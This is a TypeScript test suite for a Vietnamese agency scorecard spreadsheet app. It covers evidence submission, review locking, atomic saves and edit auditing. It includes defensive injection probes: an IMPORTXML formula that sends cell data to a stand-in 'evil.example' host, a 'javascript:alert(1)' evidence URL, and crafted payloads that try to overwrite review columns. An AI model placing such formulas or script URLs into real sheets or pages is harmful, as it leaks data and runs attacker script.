// The units' side of evidence and review (design §10), through the built bundle: the form carries
// each figure's evidence and the office's decision; a save writes evidence to `Thẩm định` (only the
// clerk's four columns), audits it, and cannot change a figure the office has accepted or adjusted.
import { describe, expect, it } from "vitest";
import type { EntryForm, SubmitResult } from "../../src/core/entry";
import { t } from "../../src/core/messages";
import type { Cell } from "../../src/workbook/contract";
import { freezeClock, type Loaded, loadBundle, loadSample, VALUE_CALLS } from "./harness";

process.env.TZ = "America/Los_Angeles";

const NOW = "2024-01-31T20:00:00Z";
const CLERK = "vanthu.sgtvt@binhphuoc.example";
const REVIEW = "Thẩm định";
const flagText = (reason: "keyMoved") => t("vi", `flag_${reason}`);
const HEADER = [
  "Kỳ",
  "Mã đơn vị",
  "Mã chỉ tiêu",
  "Minh chứng",
  "Giá trị thẩm định",
  "Trạng thái",
  "Lý do",
  "Người thẩm định",
  "Thẩm định lúc",
  "Giá trị tự đánh giá",
];
/** The office's columns: Giá trị thẩm định … Giá trị tự đánh giá. */
const OFFICE = [4, 5, 6, 7, 8, 9];

/** Sở GTVT's June 2023 figures in the sample, as its form shows them: saving them changes nothing. */
const JUNE = {
  KH_CDS: "có",
  HOP_KG: "không",
  KY_SO: "0",
  EMAIL_CV: "95,38",
  DVC_34: "97,03",
  HS_TT: "34,08",
  SC_ATTT: "0",
  TIN_CDS: "3",
};

const WRITES = /^(Range\.(set\w+|clear\w*)|Sheet\.(appendRow|clear\w*|insert\w+)|Spreadsheet\.insertSheet)$/;

type Row = [string, string, string, string, Cell, string, string, string, string, string];

/** A `Thẩm định` row: evidence, then the office's decision. */
const review = (
  unitId: string,
  id: string,
  evidence: string,
  status = "",
  reason = "",
  reviewed: Cell = "",
  selfValue = "",
  period = "2023-06",
): Row => [
  period,
  unitId,
  id,
  evidence,
  reviewed,
  status,
  reason,
  status ? "cds@binhphuoc.example" : "",
  "",
  selfValue,
];

/** The office's decisions on Sở GTVT's June: KH_CDS accepted, KY_SO adjusted, HOP_KG sent back, EMAIL_CV accepted on an older figure. */
const DECISIONS: Row[] = [
  review("SNV", "KH_CDS", "https://snv.example/kh.pdf", "điều chỉnh", "Chưa ban hành", "không", "có"),
  review("SGTVT", "KH_CDS", "https://sgtvt.example/kh-cds.pdf", "đạt", "", "", "có"),
  review("SGTVT", "KY_SO", "Báo cáo số 12/BC-SGTVT ngày 03/07/2023", "điều chỉnh", "Theo số liệu hệ thống", 0.1, "0%"),
  review("SGTVT", "HOP_KG", "", "cần bổ sung", "Thiếu biên bản họp", "", ""),
  review("SGTVT", "EMAIL_CV", "javascript:alert(1)", "đạt", "", "", "80%"),
];

function setup(rows: Row[] | null = DECISIONS, required: string[] = []): Loaded {
  const b = loadBundle({ activeUser: CLERK });
  loadSample(b.fakes, (s) => {
    // Thẩm định holds `rows` only (none when null), not the sample's rows of the year.
    s.review = undefined;
    const col = s.indicators[0].indexOf("Minh chứng");
    for (const r of s.indicators) if (required.includes(String(r[0]))) r[col] = "bắt buộc";
  });
  if (rows) b.fakes.ss.loadGrid(REVIEW, [HEADER, ...rows]);
  b.fakes.calls.reset();
  freezeClock(b.context, NOW);
  return b;
}

const sheetValues = (b: Loaded, name: string) => b.fakes.ss.snapshot()[name]?.values ?? [];
const reviewRow = (b: Loaded, unitId: string, id: string) =>
  sheetValues(b, REVIEW).find((r) => r[1] === unitId && r[2] === id);
const save = (b: Loaded, payload: Record<string, unknown>) =>
  b.call<SubmitResult>("submitFigures", { unitId: "SGTVT", period: "2023-06", values: JUNE, note: "", ...payload });

describe("getEntryForm with evidence and review", () => {
  it("carries each figure's evidence, status, reason, the office's value and whether it is locked", () => {
    const b = setup(DECISIONS, ["KH_CDS", "KY_SO"]);
    const form = b.call<EntryForm>("getEntryForm", { period: "2023-06" });
    expect(form.indicators.filter((i) => i.evidenceRequired).map((i) => i.id)).toEqual(["KH_CDS", "KY_SO"]);
    expect(form.reviews).toEqual({
      KH_CDS: {
        evidence: "https://sgtvt.example/kh-cds.pdf",
        status: "accepted",
        reason: "",
        reviewed: "",
        locked: true,
        stale: false,
      },
      KY_SO: {
        evidence: "Báo cáo số 12/BC-SGTVT ngày 03/07/2023",
        status: "adjusted",
        reason: "Theo số liệu hệ thống",
        reviewed: "10%",
        locked: true,
        stale: false,
      },
      HOP_KG: { evidence: "", status: "more", reason: "Thiếu biên bản họp", reviewed: "", locked: false, stale: false },
      // Accepted when it read 80%: the unit has changed it since, so it waits for the office again.
      EMAIL_CV: {
        evidence: "javascript:alert(1)",
        status: "pending",
        reason: "",
        reviewed: "",
        locked: false,
        stale: true,
      },
    });
    expect(JSON.parse(JSON.stringify(form))).toEqual(form);
    // Another month has no review rows: nothing to show.
    expect(b.call<EntryForm>("getEntryForm", { period: "2023-05" }).reviews).toEqual({});
  });

  it("reads a fixed number of ranges, whatever the size of Thẩm định: 3 more than without it", () => {
    const counts = (rows: Row[] | null) => {
      const b = setup(rows);
      b.call<EntryForm>("getEntryForm", { period: "2023-06" });
      return {
        values: b.fakes.calls.count("Range.getValues"),
        all: b.fakes.calls.count(),
        dataRange: b.fakes.calls.count("Sheet.getDataRange"),
      };
    };
    const others: Row[] = [];
    for (const period of ["2023-01", "2023-02", "2023-03", "2023-04", "2023-05"])
      for (const unit of ["SNV", "STC", "SYT", "SXD", "STP", "SKHDT", "BDT", "SCT"])
        for (const id of Object.keys(JUNE)) others.push(review(unit, id, `CV ${period} ${unit} ${id}`, "đạt"));
    const without = counts(null);
    const small = counts(DECISIONS);
    const large = counts([...others, ...DECISIONS, ...others]);
    // Without Thẩm định: the three small sheets, Số liệu's header and keys, this and last month's rows.
    expect(without.values).toBe(7);
    // With it: its header, its key columns, and the unit's rows of the month in one range.
    expect(small.values).toBe(without.values + 3);
    expect(large).toEqual(small);
    expect(small.dataRange).toBe(3);
  });
});

describe("submitFigures with evidence", () => {
  it("creates Thẩm định on the first evidence, writes the clerk's four columns and audits it with the figures", () => {
    const b = setup(null);
    const text = "Công văn số 45/SGTVT-VP ngày 02/07/2023 về ký số văn bản";
    const r = save(b, { values: { ...JUNE, TIN_CDS: "4" }, evidence: { KY_SO: text } });
    expect(r).toMatchObject({ ok: true, changes: 2, evidence: { KY_SO: text } });
    const rows = sheetValues(b, REVIEW);
    expect(rows).toEqual([HEADER, ["2023-06", "SGTVT", "KY_SO", text, "", "", "", "", "", ""]]);
    const audit = sheetValues(b, "Nhật ký").slice(1);
    expect(audit.map((a) => a.slice(2, 8))).toEqual([
      ["Nhập qua biểu mẫu", "2023-06", "SGTVT", "TIN_CDS", "3", "4"],
      ["Minh chứng", "2023-06", "SGTVT", "KY_SO", "", text],
    ]);
    // The form now shows it, pending.
    expect(b.call<EntryForm>("getEntryForm", { period: "2023-06" }).reviews.KY_SO).toMatchObject({
      evidence: text,
      status: "pending",
      locked: false,
    });
    // The same evidence again changes nothing and writes nothing.
    b.fakes.calls.reset();
    expect(save(b, { values: { ...JUNE, TIN_CDS: "4" }, evidence: { KY_SO: ` ${text}\r\n` } })).toMatchObject({
      ok: true,
      changes: 0,
    });
    expect(b.fakes.calls.list().filter((c) => WRITES.test(c))).toEqual([]);
  });

  it("does not create Thẩm định for a save without evidence", () => {
    const b = setup(null);
    expect(save(b, { values: { ...JUNE, TIN_CDS: "4" } }).ok).toBe(true);
    expect(save(b, { values: { ...JUNE, TIN_CDS: "5" }, evidence: {} }).ok).toBe(true);
    expect(b.fakes.ss.sheets.map((s) => s.name)).not.toContain(REVIEW);
  });

  it("updates evidence in place, leaving the office's decision and reason alone; an audit line is shortened", () => {
    const b = setup();
    const before = reviewRow(b, "SGTVT", "HOP_KG")!;
    const long = `Biên bản họp ngày 28/06/2023: ${"nội dung ".repeat(100)}`;
    b.fakes.calls.reset();
    const r = save(b, { evidence: { HOP_KG: long } });
    expect(r).toMatchObject({ ok: true, changes: 1 });
    const after = reviewRow(b, "SGTVT", "HOP_KG")!;
    expect(after[3]).toBe(long.trim());
    expect(OFFICE.map((j) => after[j])).toEqual(OFFICE.map((j) => before[j]));
    expect(sheetValues(b, REVIEW)).toHaveLength(DECISIONS.length + 1);
    const line = sheetValues(b, "Nhật ký").at(-1)!;
    expect(line[2]).toBe("Minh chứng");
    expect(String(line[7]).length).toBeLessThanOrEqual(200);
    expect(String(line[7])).toMatch(/^Biên bản họp ngày 28\/06\/2023: .*…$/);
    expect(b.fakes.calls.countMatching(VALUE_CALLS)).toBeLessThanOrEqual(13);
  });

  it("keeps evidence that looks like a formula as text", () => {
    const b = setup(null);
    b.fakes.ss.parseTypedText = true;
    const evil = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
    expect(save(b, { evidence: { KY_SO: evil, KH_CDS: "2023-06", HOP_KG: "12" } }).ok).toBe(true);
    const snap = b.fakes.ss.snapshot();
    expect([...snap[REVIEW].formulas.flat(), ...snap["Nhật ký"].formulas.flat()].filter((f) => f !== "")).toEqual([]);
    expect(reviewRow(b, "SGTVT", "KY_SO")![3]).toBe(evil);
    expect(reviewRow(b, "SGTVT", "KH_CDS")![3]).toBe("2023-06");
    expect(reviewRow(b, "SGTVT", "HOP_KG")![3]).toBe("12");
  });

  it("refuses a change to an accepted or adjusted figure, naming it, and writes nothing", () => {
    const b = setup();
    b.fakes.calls.reset();
    const r = save(b, { values: { ...JUNE, KH_CDS: "không", KY_SO: "24,39", TIN_CDS: "9" } });
    expect(r).toEqual({
      ok: false,
      message:
        "Không thể sửa số liệu hoặc minh chứng đã được thẩm định của chỉ tiêu: Ban hành Kế hoạch chuyển đổi số và bảo đảm an toàn thông tin năm 2023; Tỷ lệ văn bản điện tử được ký số. Vui lòng liên hệ Văn phòng để mở lại nếu cần sửa; các số liệu khác chưa được lưu.",
      fieldErrors: {
        KH_CDS: "Đã được thẩm định; liên hệ Văn phòng để mở lại nếu cần sửa.",
        KY_SO: "Đã được thẩm định; liên hệ Văn phòng để mở lại nếu cần sửa.",
      },
    });
    expect(b.fakes.calls.list().filter((c) => WRITES.test(c))).toEqual([]);
    // The evidence of an accepted figure cannot be changed either.
    expect(save(b, { evidence: { KH_CDS: "https://other.example" } }).ok).toBe(false);
  });

  it("saves the rest of the form when the accepted figures come back unchanged, and a stale one can be changed", () => {
    const b = setup();
    const r = save(b, { values: { ...JUNE, TIN_CDS: "9", EMAIL_CV: "96" }, evidence: { HOP_KG: "Biên bản 28/06" } });
    expect(r).toMatchObject({ ok: true, changes: 3 });
    const data = sheetValues(b, "Số liệu");
    const june = data.find((x) => x[0] === "2023-06" && x[1] === "SGTVT")!;
    expect(june[data[0].indexOf("TIN_CDS")]).toBe(9);
    expect(june[data[0].indexOf("KH_CDS")]).toBe(true);
  });

  it("lets a clerk change a figure the office has reopened (status back to chờ thẩm định)", () => {
    const rows = DECISIONS.map(
      (r): Row =>
        r[1] === "SGTVT" && r[2] === "KH_CDS" ? ([...r.slice(0, 5), "chờ thẩm định", ...r.slice(6)] as Row) : r,
    );
    const b = setup(rows);
    expect(b.call<EntryForm>("getEntryForm", { period: "2023-06" }).reviews.KH_CDS).toMatchObject({
      status: "pending",
      locked: false,
    });
    expect(save(b, { values: { ...JUNE, KH_CDS: "không" }, evidence: { KH_CDS: "Dự thảo kế hoạch" } })).toMatchObject({
      ok: true,
      changes: 2,
    });
    expect(reviewRow(b, "SGTVT", "KH_CDS")!.slice(3, 6)).toEqual(["Dự thảo kế hoạch", "", "chờ thẩm định"]);
  });

  describe("a clerk's save can never write the office's columns", () => {
    const crafted: [string, Record<string, unknown>][] = [
      ["evidence keyed by an office column", { evidence: { "Trạng thái": "đạt" } }],
      ["evidence keyed by a field name", { evidence: { status: "accepted", reviewedValue: "100" } }],
      ["evidence keyed by Giá trị thẩm định", { evidence: { "Giá trị thẩm định": "100" } }],
      ["evidence of another unit's indicator key", { evidence: { "SNV:KH_CDS": "x" } }],
      ["a review field beside the evidence", { evidence: { HOP_KG: "x" }, status: "đạt" }],
      ["a reviews object", { evidence: { HOP_KG: "x" }, reviews: { HOP_KG: { status: "accepted", locked: false } } }],
      ["evidence as an object", { evidence: { HOP_KG: { status: "đạt" } } }],
      ["evidence as a list", { evidence: [["HOP_KG", "x"]] }],
      ["evidence too long", { evidence: { HOP_KG: "x".repeat(2001) } }],
      ["a key too long", { evidence: { ["K".repeat(65)]: "x" } }],
    ];
    it.each(crafted)("refuses %s and writes nothing", (_name, payload) => {
      const b = setup();
      const before = sheetValues(b, REVIEW);
      b.fakes.calls.reset();
      const r = save(b, payload);
      expect(r.ok).toBe(false);
      expect(r.message).toMatch(/\S/);
      expect(b.fakes.calls.list().filter((c) => WRITES.test(c))).toEqual([]);
      expect(sheetValues(b, REVIEW)).toEqual(before);
    });

    it("writes only Minh chứng of existing rows and blank office cells on new rows, whatever is sent", () => {
      const b = setup();
      const before = sheetValues(b, REVIEW);
      const r = save(b, {
        evidence: { HOP_KG: "đạt", DVC_34: "Trạng thái: đạt", SC_ATTT: '=CONCAT("đạ";"t")', TIN_CDS: "đạt" },
      });
      expect(r).toMatchObject({ ok: true, changes: 4 });
      const after = sheetValues(b, REVIEW);
      for (const [i, row] of before.slice(1).entries())
        expect(OFFICE.map((j) => after[i + 1][j])).toEqual(OFFICE.map((j) => row[j]));
      for (const row of after.slice(before.length)) expect(OFFICE.map((j) => row[j])).toEqual(OFFICE.map(() => ""));
      expect(b.call<EntryForm>("getEntryForm", { period: "2023-06" }).reviews.TIN_CDS).toMatchObject({
        status: "pending",
        locked: false,
      });
    });
  });

  describe("all or nothing", () => {
    const figures = (b: Loaded) => ({
      data: sheetValues(b, "Số liệu"),
      review: sheetValues(b, REVIEW),
      audit: sheetValues(b, "Nhật ký").map((r) => r.slice(1, 8)),
    });
    it.each([
      ["into an existing Thẩm định", DECISIONS],
      ["creating Thẩm định", null],
    ])(
      "with a fault at any call of a save %s, the retry leaves every figure, evidence and audit row once",
      (_, rows) => {
        const payload = { values: { ...JUNE, TIN_CDS: "6" }, evidence: { HOP_KG: "Biên bản", DVC_34: "Cổng DVC" } };
        const clean = setup(rows);
        clean.fakes.calls.reset();
        expect(save(clean, payload).ok).toBe(true);
        const total = clean.fakes.calls.count();
        const expected = figures(clean);
        for (let at = 1; at <= total; at++) {
          const b = setup(rows);
          b.fakes.calls.injectFault({ at });
          const first = save(b, payload);
          expect(b.fakes.calls.faultPending(), `call ${at}`).toBe(false);
          if (!first.ok) {
            // Nothing half-written: the figures are as before, or (a fault at the last flush) all
            // written with their audit rows.
            const now = figures(b);
            const intact = JSON.stringify(now.data) === JSON.stringify(figures(setup(rows)).data);
            expect(intact || JSON.stringify(now.audit) === JSON.stringify(expected.audit), `call ${at}`).toBe(true);
          }
          const retry = save(b, payload);
          expect(retry.ok, `retry after call ${at}: ${retry.message}`).toBe(true);
          const got = figures(b);
          const filled = (g: unknown[][]) => g.filter((r) => r.some((c) => c !== ""));
          expect(filled(got.review), `call ${at}`).toEqual(filled(expected.review));
          expect(got.data, `call ${at}`).toEqual(expected.data);
          expect(
            got.audit.map((r) => r.slice(1)),
            `call ${at}`,
          ).toEqual(expected.audit.map((r) => r.slice(1)));
        }
      },
    );
  });
});

describe("grid edits over reviewed figures", () => {
  function edit(b: Loaded, a1: string, value: unknown, old: string) {
    const cell = b.fakes.ss.sheet("Số liệu").getRange(a1);
    cell.setValue(value);
    const user = { getEmail: () => CLERK };
    b.call("onDataEdit", { range: cell, oldValue: old, value: String(value), source: b.fakes.ss, user });
  }

  it("flags an edit of an accepted or adjusted figure, not of one sent back or without review", () => {
    const b = setup();
    const data = sheetValues(b, "Số liệu");
    const row = data.findIndex((r) => r[0] === "2023-06" && r[1] === "SGTVT") + 1;
    const col = (id: string) => String.fromCharCode(65 + data[0].indexOf(id));
    b.fakes.calls.reset();
    edit(b, `${col("KY_SO")}${row}`, 0.5, "0");
    edit(b, `${col("KH_CDS")}${row}`, "không", "có");
    edit(b, `${col("HOP_KG")}${row}`, "có", "không");
    edit(b, `${col("TIN_CDS")}${row}`, 5, "3");
    const audit = sheetValues(b, "Nhật ký").slice(1);
    expect(audit.map((r) => [r[5], r[2]])).toEqual([
      ["KY_SO", "Sửa trực tiếp trên bảng — CẦN XEM LẠI: số liệu đã được thẩm định"],
      ["KH_CDS", "Sửa trực tiếp trên bảng — CẦN XEM LẠI: số liệu đã được thẩm định"],
      ["HOP_KG", "Sửa trực tiếp trên bảng"],
      ["TIN_CDS", "Sửa trực tiếp trên bảng"],
    ]);
    const flags = JSON.parse(b.fakes.properties.document.getProperty("dxScorecard.flags") ?? "[]");
    expect(flags.map((f: { reasons: string[] }) => f.reasons)).toEqual([["reviewed"], ["reviewed"]]);
  });

  it("flags a clerk moving a decision in Thẩm định or typing another unit's evidence, not their own", () => {
    const b = setup();
    const rows = sheetValues(b, REVIEW);
    const snv = rows.findIndex((r) => r[1] === "SNV" && r[2] === "KH_CDS") + 1;
    const own = rows.findIndex((r) => r[1] === "SGTVT" && r[2] === "HOP_KG") + 1;
    const put = (a1: string, value: string, old: string) => {
      const cell = b.fakes.ss.sheet(REVIEW).getRange(a1);
      cell.setValue(value);
      const user = { getEmail: () => CLERK };
      b.call("onDataEdit", { range: cell, oldValue: old, value, source: b.fakes.ss, user });
    };
    put(`B${snv}`, "SGTVT", "SNV"); // SNV's adjustment moved onto another unit
    put(`D${own}`, "Biên bản họp số 3/BB-SGTVT", ""); // the clerk's own evidence
    put(`C${own}`, "KY_SO", "HOP_KG"); // a row moved to another indicator
    const audit = sheetValues(b, "Nhật ký").slice(1);
    expect(audit.map((r) => [r[4], r[5], r[2]])).toEqual([
      ["SGTVT", "KH_CDS · Mã đơn vị", "Sửa trực tiếp trên bảng — CẦN XEM LẠI: " + flagText("keyMoved")],
      ["SGTVT", "HOP_KG · Minh chứng", "Sửa trực tiếp trên bảng"],
      ["SGTVT", "KY_SO · Mã chỉ tiêu", "Sửa trực tiếp trên bảng — CẦN XEM LẠI: " + flagText("keyMoved")],
    ]);
    const flags = JSON.parse(b.fakes.properties.document.getProperty("dxScorecard.flags") ?? "[]");
    expect(flags.map((f: { cell: string }) => f.cell)).toEqual([`${REVIEW}!B${snv}`, `${REVIEW}!C${own}`]);
  });

  it("reads nothing of Thẩm định when there is none", () => {
    const b = setup(null);
    const data = sheetValues(b, "Số liệu");
    const row = data.findIndex((r) => r[0] === "2023-06" && r[1] === "SGTVT") + 1;
    b.fakes.calls.reset();
    edit(b, `E${row}`, 0.5, "0");
    const withoutReview = b.fakes.calls.count("Range.getValues");
    const c = setup();
    c.fakes.calls.reset();
    edit(c, `E${row}`, 0.5, "0");
    // The header and the key columns, then the status of the one row concerned.
    expect(c.fakes.calls.count("Range.getValues")).toBe(withoutReview + 3);
    expect(sheetValues(b, "Nhật ký").at(-1)![2]).toBe("Sửa trực tiếp trên bảng");
  });
});
